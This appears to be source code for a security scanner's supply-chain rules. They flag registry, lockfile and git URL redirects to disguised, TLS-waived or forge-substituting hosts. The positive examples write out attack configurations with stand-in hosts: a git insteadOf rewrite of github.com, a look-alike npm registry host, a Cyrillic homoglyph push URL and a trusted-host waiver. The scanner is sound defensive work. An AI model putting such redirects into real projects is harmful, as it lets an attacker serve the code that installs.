/**
 * Where a tool fetches code from, redirected to a host the skill names (supply chain): a package
 * index or registry (`pip.conf`, `.npmrc`, `--index-url`, Yarn's `npmRegistryServer`, Cargo and
 * Go proxies, Gradle/Maven/Kotlin-script repositories, a Gemfile `source`), a lockfile's
 * `resolved` tarball, and git's own URL rewriting (`url.X.insteadOf`, an added push URL).
 *
 * A company's own index is normal, so a redirection alone stays with SR-SUPPLY-002 (high). It is
 * critical when the redirect also hands the host what makes it an attack, in any of these forms:
 * - the host borrows a registry's or forge's name without being it (`registry.npmjs.org.cdn.x`),
 *   or mixes Latin with look-alike Cyrillic/Greek letters (`gіthub-mirror…`);
 * - trust is waived for it (`trusted-host`, `sslVerify false`, `strict-ssl false`, `GOINSECURE`,
 *   plain `http://` to a host that is not local), so anyone on the path serves the code;
 * - git rewrites a public forge to it (`insteadOf "https://github.com/"`): every clone is its code.
 * SR-DLEXEC-016 is the same redirection used at once by the skill's own code: a package installed
 * from a host the skill names and loaded (`pip install --index-url … x` run from the program, a
 * Kotlin script's `@file:Repository` with `@file:DependsOn`).
 */
import { runsAsSkillCode } from "../skill-orders.js";
import type { Hit, Rule, Segment } from "../types.js";
import { isOnDomain } from "../urls.js";
import { CODE, SCRIPTS_PROSE_CONFIG } from "./common.js";

const MAX_TEXT = 512 * 1024;

/** Statements that name where packages, tarballs or repositories are fetched from: the capture holds the URL (a `\n` in an echoed or printed config starts a line too). */
const REDIRECTS: RegExp[] = [
  /(?:^|\s|\\n)-{0,2}(?:extra-)?index-url\s*[= ]\s*["']?(\S+)/gim,
  /\bPIP_(?:EXTRA_)?INDEX_URL\s*[=:]\s*["']?(\S+)/g,
  /\bUV_(?:EXTRA_)?INDEX_URL\s*[=:]\s*["']?(\S+)/g,
  /(?:^|\s|--)registry\s*[= ]\s*["']?(\S+)/gim,
  /\bnpm\s+config\s+set\s+(?:@[\w-]+:)?registry\s+["']?(\S+)/g,
  /\bnpmRegistryServer\s*:\s*["']?(\S+)/g,
  /"resolved"\s*:\s*"([^"\s]+)"/g,
  /^\s*resolved\s+"([^"\s]+)"/gm,
  /\btarball\s*:\s*["']?([^"'\s,}]+)/g,
  /\burl\.\s*["']?([^"'\s]+?)["']?\s*\.\s*(?:push)?insteadOf\b/gi,
  /^\s*\[url\s+"([^"]+)"\]\s*$/gim,
  /\bremote\s+set-url\s+(?:--add\s+)?(?:--push\s+)?(?:--add\s+)?\S+\s+["']?(\S+?)["']?(?:\s|$)/g,
  /\bremote\s+add\s+\S+\s+["']?(\S+?)["']?(?:\s|$)/g,
  /^\s*pushurl\s*=\s*(\S+)/gim,
  /@file:Repository\s*\(\s*"([^"]+)"/g,
  /\bmaven\s*\{[^}\n]{0,120}?url\s*(?:=\s*uri\s*\()?\s*["']([^"']+)["']/g,
  /<url>\s*([^<\s]+)\s*<\/url>/g,
  /\bGOPROXY\s*[=:]\s*["']?([^"'\s,|]+)/g,
  /^\s*source\s+["']([^"']+)["']/gm,
  /\bgem\s+sources\s+(?:--add|-a)\s+(\S+)/g,
  /\bgem\s+install\b[^\n]{0,200}\s(?:--source|-s)[= ](\S+)/g,
  /^\s*(?:registry|index)\s*=\s*"([^"]+)"/gm,
];

/** Hosts that are the ecosystems' own or their well-known vendors' indexes: redirecting there is ordinary. */
const KNOWN_SOURCES = [
  "pypi.org", "pythonhosted.org", "download.pytorch.org", "pypi.nvidia.com", "pypi.ngc.nvidia.com", "data.pyg.org", "registry.npmjs.org", "registry.yarnpkg.com", "npm.pkg.github.com",
  "repo1.maven.org", "repo.maven.apache.org", "maven.apache.org", "plugins.gradle.org", "maven.google.com", "dl.google.com", "jitpack.io", "oss.sonatype.org", "s01.oss.sonatype.org",
  "rubygems.org", "crates.io", "proxy.golang.org", "goproxy.io", "goproxy.cn", "github.com", "gitlab.com", "bitbucket.org", "codeberg.org", "repo.anaconda.com", "conda.anaconda.org",
];
/**
 * Ecosystem names a registrable domain (the last two labels, three under `co.uk`-style suffixes)
 * takes as a word without being the ecosystem's: `registry.npmjs-cdn.com`, `pypi-mirror.net`,
 * `proxy.golang-mirror.io`, `files.pythonhosted.cc`. A company's own index names the ecosystem
 * only below its own domain (`npm.acme-corp.com`, `pypi.tuna.tsinghua.edu.cn`), and one-word
 * mirrors (`registry.npmmirror.com`) are no word match.
 */
const ECOSYSTEM_WORDS = new Set(["npm", "npmjs", "yarn", "yarnpkg", "pypi", "pythonhosted", "pip", "rubygems", "crates", "cargo", "github", "githubusercontent", "gitlab", "golang", "goproxy", "nuget", "pytorch", "bitbucket", "maven", "gradle", "conda", "anaconda", "huggingface", "docker"]);

function registrableDomain(host: string): string {
  const labels = host.split(".");
  const shortSuffix = labels.length > 2 && labels.at(-1)!.length === 2 && labels.at(-2)!.length <= 3;
  return labels.slice(shortSuffix ? -3 : -2).join(".");
}

/** The ecosystem word a host's registrable domain borrows, when that domain is not a known source. */
function borrowedWord(host: string): string | undefined {
  const domain = registrableDomain(host);
  if (isKnown(domain)) return undefined;
  return domain.split(/[.-]/).slice(0, -1).find((w) => ECOSYSTEM_WORDS.has(w));
}

/** Names an attacker's host borrows (`registry.npmjs.org.cdn-mirror.example`, `github.com-cache.example`). */
const BORROWED = ["npmjs.org", "npmjs.com", "yarnpkg.com", "pypi.org", "pythonhosted.org", "rubygems.org", "crates.io", "github.com", "githubusercontent.com", "gitlab.com", "maven.org", "gradle.org", "golang.org", "nuget.org", "pytorch.org", "bitbucket.org"];
const PUBLIC_FORGE = /\b(?:github\.com|gitlab\.com|bitbucket\.org|codeberg\.org)\b/i;
const LOCAL = /^(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[::1\]|::1|host\.docker\.internal|[\w-]+\.local|[\w-]+\.internal|10\.\d+\.\d+\.\d+|192\.168\.\d+\.\d+|172\.(?:1[6-9]|2\d|3[01])\.\d+\.\d+)$/i;
/** Latin and look-alike Cyrillic or Greek letters in one label of a host. */
const LATIN = /[a-z]/i;
const LOOKALIKE = /[\u0370-\u03ff\u0400-\u04ff]/;

function hostOfRedirect(value: string): string | undefined {
  const v = value.replace(/^["'(]+|["'),;]+$/g, "");
  const m = /^(?:[a-z+]+:\/\/|git@)?(?:[^@/\s]*@)?([^/:\s?#"'`]+)/i.exec(v);
  if (!m || !/[.:]/.test(v)) return undefined;
  const host = m[1]!.toLowerCase().replace(/\.$/, "");
  // A written address (`https://host/…`, `git@host:`): a bare `lib.sh` after `source` is a file, not a host.
  if (!/^(?:[a-z+]+:\/\/|git@)/i.test(v)) return undefined;
  return /^(?:[\p{L}\p{N}-]+\.)+[\p{L}\p{N}-]{2,}$/u.test(host) ? host : undefined;
}

function isKnown(host: string): boolean {
  return KNOWN_SOURCES.some((d) => isOnDomain(host, d));
}

/** A written address on one of the ecosystems' own or well-known vendors' indexes (`https://pypi.nvidia.com/`). */
export function isKnownSourceAddress(value: string): boolean {
  const host = hostOfRedirect(value);
  return host !== undefined && isKnown(host);
}

/** Why a host is suspicious by its name alone: it borrows a registry's name, or mixes scripts. */
function disguise(host: string): string | undefined {
  const borrowed = BORROWED.find((d) => host.includes(d) && !isOnDomain(host, d));
  if (borrowed) return `borrows the name ${borrowed} without being it`;
  const word = borrowedWord(host);
  if (word) return `borrows the ecosystem name "${word}" in a domain that is not its own`;
  if (host.split(".").some((label) => LATIN.test(label) && LOOKALIKE.test(label))) return "mixes Latin with look-alike Cyrillic or Greek letters";
  return undefined;
}

interface Redirect { at: number; length: number; host: string; value: string; statement: string }

function redirectsIn(text: string): Redirect[] {
  const found: Redirect[] = [];
  for (const re of REDIRECTS) {
    re.lastIndex = 0;
    for (const m of text.matchAll(re)) {
      const host = hostOfRedirect(m[1]!);
      if (!host || isKnown(host) || LOCAL.test(host) || host.startsWith("$") || host.includes("{")) continue;
      const lead = m[0].length - m[0].trimStart().length;
      found.push({ at: m.index + lead, length: m[0].length - lead, host, value: m[1]!, statement: m[0] });
      if (found.length > 50) return found;
    }
  }
  return found;
}

/** Where one lockfile entry starts: a package-lock key (`"node_modules/x": {`) or a pnpm/Yarn package key at the top indentation. */
const LOCK_ENTRY = /\n\s*"(?:node_modules\/)?[@\w./-]+"\s*:\s*\{|\n {2}['"]?[/@\w][^\n]{0,200}:\s*$|\n["']?[@\w][^\n]{0,200}:\s*$/gm;

/**
 * A lockfile entry resolved at `at` whose package runs a script at install (`hasInstallScript`,
 * pnpm's `requiresBuild`) and that pins no integrity hash: npm or pnpm fetch the tarball from that
 * host and run its script unchecked. A company mirror's entries carry their hashes.
 */
function runsUncheckedAtInstall(text: string, at: number): boolean {
  const from = Math.max(0, at - 1500);
  const window = text.slice(from, at + 1500);
  const starts = [...window.matchAll(LOCK_ENTRY)].map((m) => m.index);
  const rel = at - from;
  const start = starts.filter((i) => i < rel).at(-1) ?? 0;
  const end = starts.find((i) => i > rel) ?? window.length;
  const entry = window.slice(start, end);
  return /"hasInstallScript"\s*:\s*true|\brequiresBuild\s*:\s*true/.test(entry) && !/["']?\bintegrity["']?\s*:|\bchecksum\s*:/.test(entry);
}

/**
 * What makes a redirection an attack: the host's disguise, trust waived for it, a forge rewritten
 * to it. A token configured for a company registry is ordinary and does not count.
 */
function aggravation(r: Redirect, text: string): string | undefined {
  const named = disguise(r.host);
  if (named) return `the host ${named}`;
  if (runsUncheckedAtInstall(text, r.at)) return "the package runs an install script from it with no integrity hash pinned";
  const host = r.host.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
  if (new RegExp(`trusted-host\\s*[= ]\\s*["']?${host}\\b|\\bhttp\\.["']?https?://${host}[^\\n]{0,80}sslVerify["']?\\s+false|GOINSECURE\\s*[=:]\\s*["']?[^\\n]*${host}|\\bstrict-ssl\\s*[= ]\\s*false|sslVerify\\s*=?\\s*false|allowInsecureProtocol\\s*(?:=\\s*)?true|GIT_SSL_NO_VERIFY|\\bGOSUMDB\\s*[=:]\\s*["']?off\\b|\\bGONOSUMDB\\s*[=:]\\s*["']?\\*|\\bGOFLAGS\\s*[=:]\\s*["']?[^\\n]*-insecure`, "i").test(text)) return "TLS checks are waived for it";
  if (/^(?:[a-z]+\+)?http:\/\//i.test(r.value)) return "it is fetched over plain http";
  const around = text.slice(r.at, r.at + r.length + 200).split("\n").slice(0, 3).join("\n");
  if (/insteadOf/i.test(around) && PUBLIC_FORGE.test(around.replace(r.value, ""))) return "every clone and fetch of a public forge is served by it instead";
  return undefined;
}

function redirectHits(segment: Segment): Hit[] {
  if (segment.text.length > MAX_TEXT) return [];
  const hits: Hit[] = [];
  for (const r of redirectsIn(segment.text)) {
    const why = aggravation(r, segment.text);
    if (why) hits.push({ index: r.at, length: r.length, message: `Redirects where packages or repositories are fetched from to ${r.host}, and ${why}: what installs or clones is whatever that host serves.` });
    if (hits.length) break;
  }
  return hits;
}

/** `pip install --index-url X pkg` (or `--extra-index-url`) started by the skill's program, then the package imported. */
const PROGRAM_INSTALL = /\b(?:subprocess\.\w+|os\.system|check_call|check_output|execSync|spawnSync|exec\.Command|system)\s*\([^\n]{0,300}\bpip\b[^\n]{0,300}(?:--(?:extra-)?index-url|-i)["',\s]+["']?(https?:\/\/[^"'\s]+)/g;
const SCRIPT_REPOSITORY = /@file:Repository\s*\(\s*"(https?:\/\/[^"]+)"\s*\)[\s\S]{0,600}?@file:DependsOn\s*\(/g;

function installedAndRun(segment: Segment): Hit[] {
  if (!runsAsSkillCode(segment) || segment.text.length > MAX_TEXT) return [];
  const hits: Hit[] = [];
  for (const re of [PROGRAM_INSTALL, SCRIPT_REPOSITORY]) {
    re.lastIndex = 0;
    for (const m of segment.text.matchAll(re)) {
      const host = hostOfRedirect(m[1]!);
      if (!host || isKnown(host) || LOCAL.test(host)) continue;
      hits.push({ index: m.index, length: m[0].length, message: `Installs a package from ${host}, an index the skill names, and runs it: the code that runs is whatever that host serves.` });
      return hits;
    }
  }
  return hits;
}

export const sourceRedirectRules: Rule[] = [
  {
    id: "SR-SUPPLY-024",
    title: "Package or repository source redirected to a disguised or untrusted host",
    category: "supply-chain",
    severity: "critical",
    message: "Redirects where packages or repositories are fetched from to a host that is disguised, trusted without TLS checks or fetched over plain http, or put in place of a public forge.",
    fix: "Use the ecosystem's own registry or a company index you control over verified TLS; never hand tokens to a mirror you do not run.",
    fileKinds: [...SCRIPTS_PROSE_CONFIG, "text"],
    context: "command",
    triggers: ["index-url", "index_url", "registry", "resolved", "tarball", "insteadof", "remote ", "pushurl", "@file:repository", "maven", "<url>", "goproxy", "source", "gem sources", "index"],
    match: (segment) => redirectHits(segment),
    examples: {
      positive: [
        "[global]\nextra-index-url = https://pkgs.corp-mirror.example.com/simple\ntrusted-host = pkgs.corp-mirror.example.com",
        'git config --global url."https://gh-cache.accel.example.net/".insteadOf "https://github.com/"',
        '{"node_modules/lodash": {"resolved": "https://registry.npmjs.org.cdn-mirror.example/lodash/-/lodash-4.17.21.tgz"}}',
        'git remote set-url --add --push origin "https://gіthub-mirror.example.com/x"',
        '{"packages": {\n    "node_modules/left-pad": {\n      "version": "1.3.0",\n      "resolved": "https://pkg-cache.example.net/left-pad-1.3.0.tgz",\n      "hasInstallScript": true\n    }\n}}',
      ],
      negative: [
        "[global]\nextra-index-url = https://pkgs.corp.example.com/simple",
        'git config --global url."git@github.com:".insteadOf "https://github.com/"',
        '{"node_modules/lodash": {"resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"}}',
        "pip install --index-url https://download.pytorch.org/whl/cpu torch",
        '{"packages": {\n    "node_modules/left-pad": {\n      "version": "1.3.0",\n      "resolved": "https://npm.corp.example.net/left-pad-1.3.0.tgz",\n      "integrity": "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQEr3cVU35dR1PNY0G4KgVLbj5Fw8zlFNOT/1c6lFeRTBGPg==",\n      "hasInstallScript": true\n    }\n}}',
      ],
    },
  },
  {
    id: "SR-DLEXEC-016",
    title: "Package installed from a host the skill names and run",
    category: "download-execute",
    severity: "critical",
    message: "The skill's own code installs a package from an index it names and loads it.",
    fix: "Vendor the helper into the skill, or depend on it from the ecosystem's registry with a pinned version.",
    fileKinds: CODE,
    context: "command",
    triggers: ["pip", "@file:repository"],
    match: (segment) => installedAndRun(segment),
    examples: {
      positive: ['subprocess.run([sys.executable, "-m", "pip", "install", "--index-url", "https://pypi.tools.example/simple", "helper"])', '@file:Repository("https://maven.tools.example.com/releases")\n@file:DependsOn("io.tools:helper:2.1.0")'],
      negative: ['subprocess.run([sys.executable, "-m", "pip", "install", "--index-url", "https://download.pytorch.org/whl/cpu", "torch"])', '@file:Repository("https://repo1.maven.org/maven2")\n@file:DependsOn("com.squareup.okhttp3:okhttp:4.12.0")'],
    },
  },
];
